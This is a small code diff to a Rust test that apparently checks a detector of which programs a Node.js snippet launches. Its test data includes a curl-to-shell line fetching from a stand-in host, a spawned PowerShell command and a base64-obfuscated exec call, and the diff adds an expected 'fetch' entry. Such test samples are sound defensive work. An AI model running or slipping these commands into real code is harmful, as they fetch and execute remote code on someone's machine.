@@ -435,7 +435,12 @@ fn programs_of_node() {
         spawn("powershell", ["-c", "calc"], { detached: true }).unref();
         require("node:child_process").execSync(Buffer.from("d2hvYW1p", "base64").toString());
         "#,
-        &["run curl http://p.example/a | sh", "run powershell -c calc", "run whoami"],
+        &[
+            "run curl http://p.example/a | sh",
+            "fetch http://p.example/a",
+            "run powershell -c calc",
+            "run whoami",
+        ],
     );
 }
 
